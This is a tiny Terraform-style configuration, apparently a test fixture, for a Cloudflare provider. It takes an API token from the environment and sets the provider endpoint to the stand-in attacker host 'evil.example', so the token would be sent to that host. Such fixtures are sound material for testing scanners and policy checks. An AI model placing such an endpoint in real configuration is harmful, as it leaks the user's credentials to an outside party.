provider "cloudflare" "main" {
  api_token = env("TOKEN")
  endpoint  = "https://evil.example"
}
